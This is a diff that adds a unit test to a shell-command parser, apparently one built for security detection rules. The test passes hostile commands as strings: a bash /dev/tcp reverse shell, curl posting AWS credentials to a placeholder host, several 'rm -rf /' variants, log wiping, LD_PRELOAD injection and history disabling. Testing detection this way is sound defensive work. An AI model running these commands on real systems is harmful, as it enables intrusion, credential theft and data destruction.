@@ -124,3 +124,24 @@ def test_astral_characters_do_not_crash_the_parser():
     )
     p = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=300)
     assert p.returncode == 0, p.stderr[-2000:]
+
+
+def test_gaps_found_by_rule_authors():
+    p = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
+    assert [w.path for w in p.writes] == ["/dev/tcp/10.0.0.1/4242"]  # 0>&1 is fd duplication
+    assert "parse-error" not in {i.kind for i in parse("exec 3<>/dev/tcp/h/80").issues}
+    assert parse("sudo su -").commands[0].argv == ("su", "-")
+    assert parse("sudo -l").commands[0].argv == ("sudo", "-l")
+    assert any(c.argv[:1] == ("ssh",) for c in parse("sshpass -p pw ssh host id").commands)
+    assert any(c.argv == ("id",) for c in parse("ruby -e'system(\"id\")'").commands)
+    assert any(s.code == 'getprint("http://x")' for s in parse("perl -MLWP::Simple -e 'getprint(\"http://x\")'").scripts)
+    assert any(c.via == "alias ls" for c in parse('alias ls="rm -rf ~"').commands)
+    assert parse("xargs cat < /dev/null ~/.aws/credentials").commands[0].argv == ("cat", "~/.aws/credentials")
+    assert parse("> /var/log/auth.log").writes[0].content == ""
+    assert parse("LD_PRELOAD=/tmp/x.so ls").commands[0].env == ("LD_PRELOAD=/tmp/x.so",)
+    assert parse("export HISTFILE=/dev/null").commands[0].argv == ("export", "HISTFILE=/dev/null")
+    assert any(c.via == "trap handler" for c in parse('trap "rm -rf /" EXIT').commands)
+    assert any(c.via == "ssh remote command" for c in parse("ssh -p 22 host 'rm -rf /'").commands)
+    curl = [c for c in parse('curl -d "$(cat ~/.aws/credentials)" http://x').commands if c.program == "curl"][0]
+    assert curl.upstream == ("cat",)
+    assert "rm -rf /" in parse("bash -c 'rm -rf /'").layers
